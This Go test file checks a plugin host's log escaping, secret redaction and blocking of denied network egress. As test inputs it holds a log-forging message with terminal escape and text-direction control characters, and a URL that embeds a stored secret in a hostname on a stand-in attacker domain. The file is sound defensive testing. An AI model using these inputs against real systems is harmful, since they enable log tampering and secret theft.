package capability

import (
	"bytes"
	"context"
	"encoding/json"
	"log/slog"
	"strings"
	"testing"
	"unicode"

	"github.com/chatbridge/chatbridge/wit/abi"
)

// logRecords decodes the JSON lines of buf.
func logRecords(t *testing.T, buf *bytes.Buffer) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, line := range bytes.Split(bytes.TrimSpace(buf.Bytes()), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("log line %q: %v", line, err)
		}
		out = append(out, m)
	}
	return out
}

// plain reports the first character of s a terminal or a line-oriented
// reader could take for something else: a control or format character.
func plain(s string) (rune, bool) {
	for _, r := range s {
		if r != ' ' && (!unicode.IsGraphic(r) || unicode.Is(unicode.Cf, r)) {
			return r, false
		}
	}
	return 0, true
}

func TestModuleLogsAreEscapedBoundedAndNamedPlainly(t *testing.T) {
	h, m := fuzzHost(t)
	var buf bytes.Buffer
	call := &Call{Installation: "inst-1", Log: slog.New(slog.NewJSONHandler(&buf, &slog.HandlerOptions{Level: slog.LevelDebug}))}
	call.used = [][]byte{[]byte("s3cr3t-value")}
	ctx := WithCall(context.Background(), call)

	msg := "delivery failed\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\x1b[31m\u202eevil"
	long := strings.Repeat("ä", 4000)
	attrs := abi.AppendHeaders(nil, []abi.Header{
		{Name: "err", Value: "media host bad\x00host\u2028next line"},
		{Name: "long", Value: long},
		{Name: "quoted", Value: "uses s3cr3t-value inside"},
		{Name: "bot_token", Value: "123:ABC"},
		{Name: "bad name=x", Value: "dropped"},
		{Name: "line\nbreak", Value: "dropped"},
		{Name: "kind", Value: "comment"},
	})
	m.Memory().Write(0, []byte(msg))
	m.Memory().Write(4096, attrs)
	h.logWrite(ctx, m, abi.LevelWarn, 0, uint32(len(msg)), 4096, uint32(len(attrs)))

	recs := logRecords(t, &buf)
	if len(recs) != 1 {
		t.Fatalf("%d records, want 1:\n%s", len(recs), buf.String())
	}
	r := recs[0]
	for k, v := range r {
		s, _ := v.(string)
		if c, ok := plain(s); !ok {
			t.Errorf("%s holds the unescaped character %U: %q", k, c, s)
		}
		if strings.Contains(k, " ") || strings.Contains(k, "=") || strings.Contains(k, "\n") {
			t.Errorf("an attribute name outside the alphabet reached the log: %q", k)
		}
		if strings.Contains(s, "s3cr3t-value") || strings.Contains(s, "123:ABC") {
			t.Errorf("%s holds a secret: %q", k, s)
		}
	}
	if got := r["msg"].(string); !strings.HasPrefix(got, `delivery failed\n{"level":"ERROR"`) || !strings.Contains(got, `\x1b[31m\u202eevil`) {
		t.Errorf("message %q: want the line break and the escapes written out", got)
	}
	if got := r["plugin.err"]; got != `media host bad\x00host\u2028next line` {
		t.Errorf("plugin.err = %q", got)
	}
	if got := r["plugin.long"].(string); len(got) > maxLogValue || !strings.HasSuffix(got, "…") || !strings.HasPrefix(got, "ää") {
		t.Errorf("a 8000-byte value logged as %d bytes", len(got))
	}
	if r["plugin.quoted"] != "uses [secret] inside" || r["plugin.bot_token"] != "[redacted]" || r["plugin.kind"] != "comment" {
		t.Errorf("redaction or plain values: %v", r)
	}
	if r["plugin_attrs_dropped"] != float64(2) {
		t.Errorf("plugin_attrs_dropped = %v, want 2", r["plugin_attrs_dropped"])
	}
}

func TestEscapeLogCutsAtACharacterWithinTheBound(t *testing.T) {
	for _, tc := range []struct {
		in   string
		max  int
		want string
	}{
		{"short", 10, "short"},
		{"exactly-10", 10, "exactly-10"},
		{"eleven-char", 10, "eleven-…"}, // "…" is 3 bytes
		{"\x01\x02\x03\x04", 10, `\x01…`},
		{"ääääää", 10, "äää…"},
		{"a\xffb", 10, `a\xffb`},
		{`back\slash`, 20, `back\\slash`},
	} {
		got := escapeLog(tc.in, tc.max)
		if got != tc.want || len(got) > tc.max {
			t.Errorf("escapeLog(%q, %d) = %q (%d bytes), want %q", tc.in, tc.max, got, len(got), tc.want)
		}
	}
}

func TestDeniedEgressLogsTheHostEscapedAndWithoutSecrets(t *testing.T) {
	h, m := fuzzHost(t)
	var buf bytes.Buffer
	call := &Call{Installation: "inst-1", Log: slog.New(slog.NewJSONHandler(&buf, nil))}
	ctx := WithCall(context.Background(), call)
	name, value := "leak", "topsecret42"
	m.Memory().Write(0, []byte(name))
	m.Memory().Write(100, []byte(value))
	if code, _ := abi.SplitResult(h.secretsSet(ctx, m, 0, uint32(len(name)), 100, uint32(len(value)))); code != abi.OK {
		t.Fatalf("secrets.set: %v", code)
	}
	for _, u := range []string{
		"https://{{secret:leak}}.evil.example/x",
		"https://evil%E2%80%AE.example/x",
		"https://" + strings.Repeat("a", 2000) + ".example/x",
	} {
		buf.Reset()
		req := (&abi.Request{Method: "GET", URL: u}).Append(nil)
		m.Memory().Write(1000, req)
		if code, _ := abi.SplitResult(h.fetch(ctx, m, 1000, uint32(len(req)))); code != abi.AccessDenied {
			t.Fatalf("fetch %s: %v, want access-denied", u, code)
		}
		recs := logRecords(t, &buf)
		if len(recs) != 1 || recs[0]["msg"] != "egress denied" {
			t.Fatalf("%s: want one egress denied record:\n%s", u, buf.String())
		}
		host, _ := recs[0]["host"].(string)
		if strings.Contains(host, value) {
			t.Errorf("the denied host name shows the secret: %q", host)
		}
		if c, ok := plain(host); !ok || len(host) > maxLogHost {
			t.Errorf("the denied host name is not escaped and bounded (%U, %d bytes): %.80q", c, len(host), host)
		}
	}
}
